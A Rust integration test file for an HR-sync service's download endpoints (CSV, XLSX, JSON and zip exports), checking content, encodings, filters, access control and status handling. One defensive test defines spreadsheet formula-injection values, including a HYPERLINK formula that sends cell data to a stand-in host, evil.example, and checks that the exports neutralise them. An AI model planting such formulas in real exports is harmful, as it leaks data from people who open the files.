//! Downloads: report.csv, log.json, the period sync log (CSV and XLSX) and export.zip,
//! each parsed with a real reader (the csv crate, calamine, the zip crate).

use std::collections::{BTreeMap, BTreeSet};
use std::io::{Cursor, Read};

use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
use diesel::prelude::*;
use hris_sync::store::schema::sync_runs;
use reqwest::blocking::Response;
use serde_json::{json, Value};

use std::time::Duration;

use crate::helpers::{assert_problem, person, spawn_app, spawn_app_with, with, TestApp};

const BOM: &str = "\u{feff}";
const HOSTILE: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "+1",
    "-2",
    "@SUM(A1:A9)",
];

fn id(run: &Value) -> String {
    run["id"].as_str().expect("run id").to_owned()
}

/// GET that must answer 200 with this media type; the body's bytes.
fn download(app: &TestApp, path: &str, media_type: &str) -> (Vec<u8>, Response) {
    let mut response = app.get(path);
    assert_eq!(response.status().as_u16(), 200, "GET {path}");
    let content_type = header(&response, "content-type");
    assert!(
        content_type.starts_with(media_type),
        "GET {path}: {content_type}"
    );
    let mut body = Vec::new();
    response.read_to_end(&mut body).expect("body read");
    (body, response)
}

fn header(response: &Response, name: &str) -> String {
    response
        .headers()
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_owned()
}

/// A CSV download: checks and strips the BOM, returns the header and the records.
fn csv_records(body: &[u8]) -> (Vec<String>, Vec<BTreeMap<String, String>>) {
    let text = std::str::from_utf8(body).expect("UTF-8");
    let text = text.strip_prefix(BOM).expect("starts with a BOM");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_owned)
        .collect();
    let records = reader
        .records()
        .map(|r| {
            let record = r.expect("a CSV record");
            headers
                .iter()
                .cloned()
                .zip(record.iter().map(str::to_owned))
                .collect()
        })
        .collect();
    (headers, records)
}

fn report(app: &TestApp, run_id: &str) -> Vec<BTreeMap<String, String>> {
    let (body, response) = download(app, &format!("/v1/syncs/{run_id}/report.csv"), "text/csv");
    assert_eq!(
        header(&response, "content-disposition"),
        format!("attachment; filename=\"sync-{run_id}-report.csv\"")
    );
    let (headers, records) = csv_records(&body);
    assert_eq!(
        headers,
        [
            "run_id",
            "seq",
            "kind",
            "entity",
            "action",
            "code",
            "severity",
            "field",
            "old",
            "new",
            "message",
            "row",
            "external_id",
            "email",
            "first_name",
            "last_name",
            "user_id",
            "team"
        ]
    );
    records
}

/// Text of a JSON value as report.csv writes it.
fn cell(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        Value::Array(items) => items.iter().map(cell).collect::<Vec<_>>().join("|"),
        other => other.to_string(),
    }
}

/// A run with updates of several fields, created users, and skipped records.
fn mixed_run(app: &TestApp) -> Value {
    app.sync(
        "incremental",
        json!([
            with(person("E1"), json!({"first_name": "Zoë", "teams": ["Red"]})),
            person("E2"),
        ]),
    );
    app.sync(
        "incremental",
        json!([
            with(
                person("E1"),
                json!({"first_name": "Zoé", "last_name": "Ørsted 🙂", "teams": ["Red", "Blue"], "phone": "+44 2071838750"})
            ),
            with(person("E3"), json!({"manager_external_id": "E1"})),
            with(person("E4"), json!({"email": "not-an-address"})),
            with(person("E5"), json!({"employment_status": "rescinded"})),
        ]),
    )
}

#[test]
fn report_csv_holds_exactly_the_runs_events_one_line_per_changed_field() {
    let app = spawn_app();
    let run = mixed_run(&app);
    let run_id = id(&run);
    let events = app.events(&run_id, "");
    assert!(events.len() >= 5, "{events:?}");
    let lines = report(&app, &run_id);

    let mut expected = Vec::new();
    for event in &events {
        let common = |field: String, old: String, new: String| {
            (
                event["seq"].to_string(),
                event["kind"].as_str().unwrap().to_owned(),
                cell(&event["action"]),
                cell(&event["code"]),
                field,
                old,
                new,
                cell(&event["external_id"]),
                cell(&event["email"]),
                cell(&event["row"]),
            )
        };
        let changes = event["changes"].as_array().unwrap();
        if changes.is_empty() {
            expected.push(common(cell(&event["field"]), String::new(), String::new()));
        }
        for change in changes {
            expected.push(common(
                cell(&change["field"]),
                cell(&change["old"]),
                cell(&change["new"]),
            ));
        }
    }
    let got: Vec<_> = lines
        .iter()
        .map(|l| {
            (
                l["seq"].clone(),
                l["kind"].clone(),
                l["action"].clone(),
                l["code"].clone(),
                l["field"].clone(),
                l["old"].clone(),
                l["new"].clone(),
                l["external_id"].clone(),
                l["email"].clone(),
                l["row"].clone(),
            )
        })
        .collect();
    // Phone numbers start with `+`: neutralised like any formula-like cell.
    let expected: Vec<_> = expected
        .into_iter()
        .map(|mut e| {
            for value in [&mut e.5, &mut e.6] {
                if value.starts_with('+') {
                    value.insert(0, '\'');
                }
            }
            e
        })
        .collect();
    assert_eq!(got, expected);
    assert!(lines.iter().all(|l| l["run_id"] == run_id));
    let teams = lines
        .iter()
        .find(|l| l["field"] == "teams")
        .expect("a teams change");
    assert_eq!(teams["old"], "Red");
    assert_eq!(teams["new"], "Blue|Red");
}

#[test]
fn filters_on_events_do_not_change_report_csv() {
    let app = spawn_app();
    let run_id = id(&mixed_run(&app));
    let full = report(&app, &run_id);
    let issues = app.events(&run_id, "kind=issue&q=E4");
    assert_eq!(issues.len(), 1);
    let (body, _) = download(
        &app,
        &format!("/v1/syncs/{run_id}/report.csv?kind=issue&q=E4&limit=1"),
        "text/csv",
    );
    assert_eq!(csv_records(&body).1, full);
    let seqs: BTreeSet<&str> = full.iter().map(|l| l["seq"].as_str()).collect();
    assert_eq!(seqs.len(), app.events(&run_id, "").len());
}

#[test]
fn accents_and_emoji_round_trip_in_every_export() {
    let app = spawn_app();
    let run_id = id(&mixed_run(&app));
    let lines = report(&app, &run_id);
    let e1 = lines
        .iter()
        .find(|l| l["field"] == "last_name" && l["external_id"] == "E1")
        .expect("E1's new last name");
    assert_eq!(e1["new"], "Ørsted 🙂");
    assert!(lines.iter().any(|l| l["old"] == "Zoë" && l["new"] == "Zoé"));

    let (body, _) = download(&app, "/v1/sync-log.csv", "text/csv");
    let (_, log) = csv_records(&body);
    assert!(log.iter().any(|l| l["new"] == "Ørsted 🙂"));

    let (body, _) = download(&app, "/v1/sync-log.xlsx", "application/vnd.openxmlformats");
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(body)).expect("an XLSX");
    let updates = workbook.worksheet_range("Employee updates").unwrap();
    assert!(updates
        .rows()
        .any(|row| row.iter().any(|c| c == &Data::String("Ørsted 🙂".into()))));
}

#[test]
fn a_hostile_name_cannot_become_a_formula_in_csv_or_xlsx() {
    let app = spawn_app();
    let users: Vec<Value> = HOSTILE
        .iter()
        .enumerate()
        .map(|(i, name)| {
            with(
                person(&format!("H{i}")),
                json!({"first_name": name, "last_name": "Doe"}),
            )
        })
        .collect();
    // And one issue line carrying a hostile name.
    let mut users = users;
    users.push(with(
        person("H9"),
        json!({"first_name": HOSTILE[0], "email": "broken"}),
    ));
    let run = app.sync("incremental", json!(users));
    let run_id = id(&run);

    let lines = report(&app, &run_id);
    for hostile in HOSTILE {
        let neutral = format!("'{hostile}");
        assert!(
            lines.iter().any(|l| l["first_name"] == neutral),
            "{hostile} in report.csv: {lines:?}"
        );
        assert!(lines.iter().all(|l| l["first_name"] != hostile));
    }

    let (body, _) = download(&app, "/v1/sync-log.csv", "text/csv");
    let (_, log) = csv_records(&body);
    for hostile in HOSTILE {
        let neutral = format!("'{hostile} Doe");
        assert!(log.iter().any(|l| l["person"] == neutral), "{hostile}");
    }
    assert!(log
        .iter()
        .any(|l| l["section"] == "Errors" && l["person"].starts_with("'=HYPERLINK")));
    for line in &log {
        for (column, value) in line {
            assert!(
                !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{column}: {value}"
            );
        }
    }

    let (body, _) = download(&app, "/v1/sync-log.xlsx", "application/vnd.openxmlformats");
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(body)).expect("an XLSX");
    for sheet in ["Employee updates", "Errors"] {
        let formulas = workbook.worksheet_formula(sheet).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{sheet} has formulas"
        );
        let cells = workbook.worksheet_range(sheet).unwrap();
        for (_, _, value) in cells.used_cells() {
            if let Data::String(text) = value {
                assert!(!text.starts_with(['=', '+', '-', '@']), "{sheet}: {text}");
            }
        }
    }
    let updates = workbook.worksheet_range("Employee updates").unwrap();
    assert!(updates
        .used_cells()
        .any(|(_, _, v)| v == &Data::String(format!("'{} Doe", HOSTILE[0]))));
}

/// Sets a run's status behind the service's back.
fn force_status(app: &TestApp, run_id: &str, status: &str) {
    let pool = hris_sync::store::connect(&app.database_url, 1).expect("database");
    let mut conn = pool.get().expect("connection");
    let changed = diesel::update(sync_runs::table.find(run_id))
        .set(sync_runs::status.eq(status))
        .execute(&mut *conn)
        .expect("run updated");
    assert_eq!(changed, 1);
}

fn created_at(app: &TestApp, run_id: &str) -> String {
    app.get_json(&format!("/v1/syncs/{run_id}"))["created_at"]
        .as_str()
        .unwrap()
        .to_owned()
}

fn sync_log_runs(app: &TestApp, query: &str) -> BTreeSet<String> {
    let (body, _) = download(app, &format!("/v1/sync-log.csv?{query}"), "text/csv");
    csv_records(&body)
        .1
        .into_iter()
        .map(|l| l["run_id"].clone())
        .collect()
}

#[test]
fn the_period_sync_log_holds_only_the_runs_of_the_period() {
    let app = spawn_app();
    let first = id(&app.sync("incremental", json!([person("P1")])));
    std::thread::sleep(std::time::Duration::from_millis(20));
    let second = id(&app.sync("incremental", json!([person("P2")])));
    let between = created_at(&app, &second);
    let dry = app.push_body(
        &json!({"source": "test", "mode": "incremental", "dry_run": true, "users": [person("P3")]}),
    );
    app.wait_for_run(&id(&dry));

    assert_eq!(
        sync_log_runs(&app, ""),
        BTreeSet::from([first.clone(), second.clone()]),
        "the last 30 days by default, dry runs left out"
    );
    let encoded = between.replace(':', "%3A");
    assert_eq!(
        sync_log_runs(&app, &format!("since={encoded}")),
        BTreeSet::from([second.clone()])
    );
    assert_eq!(
        sync_log_runs(&app, &format!("until={encoded}")),
        BTreeSet::from([first.clone()])
    );
    assert_eq!(
        sync_log_runs(&app, "since=2020-01-01&until=2020-12-31"),
        BTreeSet::new()
    );
    let (_, response) = download(
        &app,
        "/v1/sync-log.csv?since=2020-01-01&until=2020-12-31",
        "text/csv",
    );
    assert_eq!(
        header(&response, "content-disposition"),
        "attachment; filename=\"sync-log-2020-01-01-2020-12-31.csv\""
    );
}

#[test]
fn a_period_over_366_days_backwards_or_unreadable_is_a_400() {
    let app = spawn_app();
    for file in ["sync-log.csv", "sync-log.xlsx"] {
        for query in [
            "since=2024-01-01&until=2025-01-02",
            "since=2025-02-01&until=2025-01-01",
            "since=yesterday",
            "until=2025-13-01",
        ] {
            assert_problem(app.get(&format!("/v1/{file}?{query}")), 400);
        }
        let (_, _) = download(
            &app,
            &format!("/v1/{file}?since=2024-01-01&until=2025-01-01"),
            "",
        );
    }
}

/// Every cell of a sheet as text (dates as `date`), row by row.
fn sheet_rows(workbook: &mut Xlsx<Cursor<Vec<u8>>>, name: &str) -> Vec<Vec<String>> {
    let range = workbook.worksheet_range(name).expect("the sheet");
    range
        .rows()
        .map(|row| {
            row.iter()
                .map(|c| match c {
                    Data::String(s) => s.clone(),
                    Data::DateTime(_) => "date".to_owned(),
                    Data::Empty => String::new(),
                    other => format!("{other:?}"),
                })
                .collect()
        })
        .collect()
}

/// A part of the XLSX package, as text.
fn package_part(body: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(body)).expect("an XLSX is a zip");
    let mut text = String::new();
    archive
        .by_name(name)
        .expect("the part")
        .read_to_string(&mut text)
        .expect("text");
    text
}

#[test]
fn both_xlsx_sheets_have_the_right_rows_and_a_usable_layout() {
    let app = spawn_app();
    let run_id = id(&mixed_run(&app));
    let events = app.events(&run_id, "");
    let update_lines: usize = events
        .iter()
        .filter(|e| e["kind"] == "update")
        .map(|e| e["changes"].as_array().unwrap().len().max(1))
        .sum();
    let issues: Vec<&Value> = events.iter().filter(|e| e["kind"] == "issue").collect();
    let all_update_lines: usize = app.get_json("/v1/syncs")["items"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|run| app.events(run["id"].as_str().unwrap(), "kind=update"))
        .map(|e| e["changes"].as_array().unwrap().len().max(1))
        .sum();
    assert!(all_update_lines > update_lines, "two runs in the period");

    let (body, response) = download(&app, "/v1/sync-log.xlsx", "application/vnd.openxmlformats");
    assert!(header(&response, "content-disposition").ends_with(".xlsx\""));
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(body.clone())).expect("an XLSX");
    assert_eq!(workbook.sheet_names(), ["Employee updates", "Errors"]);

    let updates = sheet_rows(&mut workbook, "Employee updates");
    assert_eq!(
        updates[0],
        [
            "time",
            "run_id",
            "action",
            "person",
            "email",
            "external_id",
            "team",
            "field",
            "old",
            "new"
        ]
    );
    let this_run: Vec<&Vec<String>> = updates[1..].iter().filter(|r| r[1] == run_id).collect();
    assert_eq!(this_run.len(), update_lines);
    assert_eq!(updates.len() - 1, all_update_lines);
    assert!(
        updates[1..].iter().all(|r| r[0] == "date"),
        "times are dates"
    );

    let errors = sheet_rows(&mut workbook, "Errors");
    assert_eq!(
        errors[0],
        [
            "time",
            "run_id",
            "code",
            "severity",
            "person",
            "email",
            "external_id",
            "team",
            "field",
            "message",
            "remediation"
        ]
    );
    assert_eq!(errors.len() - 1, issues.len());
    let invalid = errors
        .iter()
        .find(|r| r[2] == "EMAIL_INVALID")
        .expect("the invalid e-mail");
    assert_eq!(invalid[6], "E4");
    assert!(invalid[10].starts_with("1. "), "{}", invalid[10]);
    assert!(errors[1..].iter().all(|r| r[0] == "date"));

    for sheet in ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"] {
        let xml = package_part(&body, sheet);
        assert!(xml.contains("state=\"frozen\""), "{sheet}: frozen header");
        assert!(xml.contains("<autoFilter ref=\"A1:"), "{sheet}: autofilter");
        assert!(xml.contains("customWidth=\"1\""), "{sheet}: column widths");
    }
    assert!(
        package_part(&body, "xl/styles.xml").contains("<b/>"),
        "bold header"
    );
}

#[test]
fn log_json_counts_equal_the_runs_counts_and_its_lists_name_the_right_people() {
    let app = spawn_app();
    app.sync("incremental", json!([person("A1")]));
    let run = app.sync(
        "incremental",
        json!([
            with(person("A1"), json!({"last_name": "Changed"})),
            person("N1"),
            with(
                person("D1"),
                json!({"first_name": "Dup", "email": "d1@example.com"})
            ),
            with(
                person("D1"),
                json!({"first_name": "Dup", "email": "d1bis@example.com"})
            ),
            with(
                person("X1"),
                json!({"first_name": "Broken", "email": "broken"})
            ),
            with(
                person("R1"),
                json!({"first_name": "Rescinded", "employment_status": "rescinded"})
            ),
        ]),
    );
    let run_id = id(&run);
    let (body, response) = download(
        &app,
        &format!("/v1/syncs/{run_id}/log.json"),
        "application/json",
    );
    assert_eq!(
        header(&response, "content-disposition"),
        format!("attachment; filename=\"sync-{run_id}-log.json\"")
    );
    let log: Value = serde_json::from_slice(&body).expect("JSON");
    let counts = &run["counts"];
    assert_eq!(log["numberOfCreatedUsers"], counts["created"]);
    assert_eq!(log["numberOfCreatedUsers"], 1);
    assert_eq!(
        log["numberOfUpdatedUsers"],
        counts["updated"].as_u64().unwrap() + counts["reactivated"].as_u64().unwrap()
    );
    assert_eq!(log["numberOfUpdatedUsers"], 1);
    assert_eq!(log["numberOfArchivedUsers"], counts["archived"]);
    assert_eq!(log["numberOfDuplicateUsers"], counts["duplicates"]);
    assert_eq!(log["numberOfDuplicateUsers"], 2);
    assert_eq!(
        log["numberOfIgnoredUsers"].as_u64().unwrap(),
        counts["skipped"].as_u64().unwrap() - counts["duplicates"].as_u64().unwrap()
            + counts["ignored"].as_u64().unwrap()
    );
    assert_eq!(log["numberOfIgnoredUsers"], 2);
    assert_eq!(log["numberOfNoGroupsMatchUsers"], 0);
    assert_eq!(log["status"], "warning");
    assert_eq!(log["runStatus"], run["status"]);
    assert_eq!(log["startDate"], run["started_at"]);
    assert_eq!(log["endDate"], run["finished_at"]);
    assert!(log.get("logs").is_none(), "logs only when the run failed");

    let ids = |list: &str| -> Vec<String> {
        log[list]
            .as_array()
            .unwrap()
            .iter()
            .map(|u| u["id"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(ids("duplicateUsers"), ["D1", "D1"]);
    assert_eq!(ids("ignoredUsers"), ["X1", "R1"]);
    assert_eq!(ids("noGroupsMatchUsers"), Vec::<String>::new());
    let broken = &log["ignoredUsers"][0];
    assert_eq!(broken["email"], "broken");
    assert_eq!(broken["firstName"], "Broken");
    assert_eq!(broken["lastName"], "LastX1");
    assert!(broken["errorMessage"]
        .as_str()
        .unwrap()
        .contains("EMAIL_INVALID"));
    let emails: BTreeSet<&str> = log["duplicateUsers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| u["email"].as_str().unwrap())
        .collect();
    assert_eq!(
        emails,
        BTreeSet::from(["d1@example.com", "d1bis@example.com"])
    );
}

#[test]
fn the_log_of_a_failed_run_says_error_and_carries_its_logs() {
    let app = crate::helpers::spawn_app_with(|config| {
        config.test_hooks.fail_apply_after_writes = Some(1)
    });
    let run = app.sync("incremental", json!([person("F1"), person("F2")]));
    assert_eq!(run["status"], "failed");
    let (body, _) = download(
        &app,
        &format!("/v1/syncs/{}/log.json", id(&run)),
        "application/json",
    );
    let log: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(log["status"], "error");
    let logs = log["logs"].as_array().expect("logs");
    assert!(!logs.is_empty());
    assert_eq!(
        logs.last().unwrap(),
        &run["logs"].as_array().unwrap().last().unwrap()["message"]
    );
}

#[test]
fn the_zip_holds_one_folder_per_run_with_its_log_and_report() {
    let app = spawn_app();
    let first = id(&app.sync("incremental", json!([person("Z1")])));
    let second = id(&mixed_run(&app));
    let (body, response) = download(
        &app,
        &format!("/v1/syncs/export.zip?ids={first},{second},{first}"),
        "application/zip",
    );
    assert!(
        header(&response, "content-disposition").starts_with("attachment; filename=\"sync-runs-")
    );
    let mut archive = zip::ZipArchive::new(Cursor::new(body)).expect("a zip");
    let files: BTreeSet<String> = archive
        .file_names()
        .map(|n| n.expect("a readable name").into_owned())
        .filter(|n| !n.ends_with('/'))
        .collect();
    let expected: BTreeSet<String> = [&first, &second]
        .iter()
        .flat_map(|id| {
            [
                format!("sync-{id}/log.json"),
                format!("sync-{id}/report.csv"),
            ]
        })
        .collect();
    assert_eq!(files, expected);
    let folders: BTreeSet<&str> = files.iter().map(|f| f.split('/').next().unwrap()).collect();
    assert_eq!(folders.len(), 2);

    for run_id in [&first, &second] {
        let mut report = Vec::new();
        archive
            .by_name(&format!("sync-{run_id}/report.csv"))
            .unwrap()
            .read_to_end(&mut report)
            .unwrap();
        let (served, _) = download(&app, &format!("/v1/syncs/{run_id}/report.csv"), "text/csv");
        assert_eq!(report, served);
        let mut log = Vec::new();
        archive
            .by_name(&format!("sync-{run_id}/log.json"))
            .unwrap()
            .read_to_end(&mut log)
            .unwrap();
        let log: Value = serde_json::from_slice(&log).unwrap();
        assert_eq!(log["runId"], run_id.as_str());
    }
}

#[test]
fn export_zip_is_its_own_route_and_checks_its_ids() {
    let app = spawn_app();
    let run = id(&app.sync("incremental", json!([person("Z1")])));
    assert_problem(app.get("/v1/syncs/export.zip"), 400);
    assert_problem(app.get("/v1/syncs/export.zip?ids="), 400);
    assert_problem(app.get("/v1/syncs/export.zip?ids=,,"), 400);
    let many: Vec<String> = (0..51).map(|i| format!("id{i}")).collect();
    assert_problem(
        app.get(&format!("/v1/syncs/export.zip?ids={}", many.join(","))),
        400,
    );
    assert_problem(
        app.get(&format!("/v1/syncs/export.zip?ids={run},not-a-run")),
        404,
    );
    let post = app
        .request(reqwest::Method::POST, "/v1/syncs/export.zip")
        .send()
        .unwrap();
    assert_eq!(post.status().as_u16(), 405);
}

/// A server whose worker looks at the queue only when a push wakes it.
fn spawn_app_without_polling() -> TestApp {
    spawn_app_with(|config| config.worker_poll_interval = Duration::from_secs(3600))
}

/// Marks a new run of the organization `running`: the worker claims no other run of an
/// organization that has one in progress, so a run forced back to `pending` stays so.
fn hold_the_queue(app: &TestApp) {
    let blocker = id(&app.sync("incremental", json!([person("BLOCKER")])));
    force_status(app, &blocker, "running");
}

#[test]
fn exports_of_a_pending_or_running_run_are_409_with_retry_after_while_its_events_read() {
    let app = spawn_app_without_polling();
    let done = id(&app.sync("incremental", json!([person("B1")])));
    let run = id(&app.sync(
        "incremental",
        json!([person("B2"), with(person("B3"), json!({"email": "x"}))]),
    ));
    let events = app.events(&run, "");
    assert_eq!(events.len(), 2, "{events:?}");
    hold_the_queue(&app);
    for status in ["pending", "running"] {
        force_status(&app, &run, status);
        for path in [
            format!("/v1/syncs/{run}/report.csv"),
            format!("/v1/syncs/{run}/log.json"),
            format!("/v1/syncs/export.zip?ids={done},{run}"),
        ] {
            let response = app.get(&path);
            let retry_after = header(&response, "retry-after");
            let problem = assert_problem(response, 409);
            assert!(retry_after.parse::<u32>().unwrap() > 0, "{path}");
            assert!(problem["detail"].as_str().unwrap().contains(status));
        }
        assert_eq!(app.events(&run, ""), events);
        assert_eq!(app.get_json(&format!("/v1/syncs/{run}"))["status"], status);
    }
    download(&app, &format!("/v1/syncs/{done}/report.csv"), "text/csv");
}

#[test]
fn a_run_awaiting_approval_exports() {
    let app = spawn_app();
    let run = id(&app.sync("incremental", json!([person("W1")])));
    force_status(&app, &run, "awaiting_approval");
    let seqs: BTreeSet<String> = report(&app, &run)
        .into_iter()
        .map(|l| l["seq"].clone())
        .collect();
    assert_eq!(seqs.len(), app.events(&run, "").len());
    let (body, _) = download(
        &app,
        &format!("/v1/syncs/{run}/log.json"),
        "application/json",
    );
    let log: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(log["runStatus"], "awaiting_approval");
    assert_eq!(log["status"], "warning");
    download(
        &app,
        &format!("/v1/syncs/export.zip?ids={run}"),
        "application/zip",
    );
}

#[test]
fn another_organizations_run_or_an_unknown_id_is_a_404_for_every_export() {
    let app = spawn_app();
    let run = id(&app.sync("incremental", json!([person("O1")])));
    let (_, other_token) = app.other_organization();
    for path in [
        format!("/v1/syncs/{run}/report.csv"),
        format!("/v1/syncs/{run}/log.json"),
        format!("/v1/syncs/export.zip?ids={run}"),
    ] {
        assert_problem(app.get_as(&other_token, &path), 404);
    }
    for bad in [
        "00000000-0000-0000-0000-000000000000",
        "not-a-run",
        "%E2%9C%93",
    ] {
        assert_problem(app.get(&format!("/v1/syncs/{bad}/report.csv")), 404);
        assert_problem(app.get(&format!("/v1/syncs/{bad}/log.json")), 404);
    }
    // Another organization's period log is its own: empty.
    let (body, _) = download(&app, "/v1/sync-log.csv", "text/csv");
    assert!(!csv_records(&body).1.is_empty());
    let mut response = app.get_as(&other_token, "/v1/sync-log.csv");
    let mut other = Vec::new();
    response.read_to_end(&mut other).unwrap();
    assert!(csv_records(&other).1.is_empty());
}

#[test]
fn exports_need_a_token_and_a_read_scope_suffices() {
    let app = spawn_app();
    let run = id(&app.sync("incremental", json!([person("S1")])));
    let reader = app.token("sync:read");
    let response = app
        .client
        .get(app.url(&format!("/v1/syncs/{run}/report.csv")))
        .send()
        .unwrap();
    assert_problem(response, 401);
    let response = app.get_as(&reader, &format!("/v1/syncs/{run}/report.csv"));
    assert_eq!(response.status().as_u16(), 200);
}

#[test]
fn the_run_list_filters_by_every_status() {
    let app = spawn_app_without_polling();
    let run = id(&app.sync("incremental", json!([person("L1")])));
    hold_the_queue(&app);
    for status in [
        "pending",
        "running",
        "succeeded",
        "succeeded_with_errors",
        "failed",
        "awaiting_approval",
        "approved",
        "rejected",
    ] {
        force_status(&app, &run, status);
        let page = app.get_json(&format!("/v1/syncs?status={status}"));
        let items = page["items"].as_array().unwrap();
        assert!(items.iter().any(|r| r["id"] == run.as_str()), "{status}");
        assert!(items.iter().all(|r| r["status"] == status), "{status}");
    }
    assert_problem(app.get("/v1/syncs?status=done"), 400);
}

#[test]
fn a_report_longer_than_one_page_of_reads_holds_every_event_once() {
    let app = spawn_app();
    let users: Vec<Value> = (0..2_500).map(|i| person(&format!("P{i:05}"))).collect();
    let run = app.sync("incremental", json!(users));
    assert_eq!(run["counts"]["created"], 2_500);
    let run_id = id(&run);
    let lines = report(&app, &run_id);
    let mut seqs: Vec<u32> = lines.iter().map(|l| l["seq"].parse().unwrap()).collect();
    seqs.dedup();
    assert_eq!(seqs, (1..=2_500).collect::<Vec<u32>>());
    let (body, _) = download(&app, "/v1/sync-log.csv", "text/csv");
    assert_eq!(csv_records(&body).1.len(), lines.len());
}

#[test]
fn downloads_left_unread_do_not_hold_up_pushes_and_reads() {
    let app = spawn_app();
    let users: Vec<Value> = (0..2_500).map(|i| person(&format!("P{i:05}"))).collect();
    let run_id = id(&app.sync("incremental", json!(users)));
    // More stalled downloads than the test server has HTTP workers (2) and pooled
    // connections (4): each has sent its headers and waits for the client to read on.
    let mut stalled: Vec<Response> = (0..6)
        .map(|_| {
            let response = app.get(&format!("/v1/syncs/{run_id}/report.csv"));
            assert_eq!(response.status().as_u16(), 200);
            response
        })
        .collect();
    let started = std::time::Instant::now();
    assert_eq!(
        app.get_json(&format!("/v1/syncs/{run_id}"))["status"],
        "succeeded"
    );
    let pushed = app.sync("incremental", json!([person("LATE")]));
    assert_eq!(pushed["counts"]["created"], 1);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(20),
        "reads and pushes waited for the downloads"
    );
    // The stalled downloads are still whole when read at last.
    let mut body = Vec::new();
    stalled[0].read_to_end(&mut body).unwrap();
    let lines = csv_records(&body).1;
    assert_eq!(lines.last().unwrap()["seq"], "2500");
}
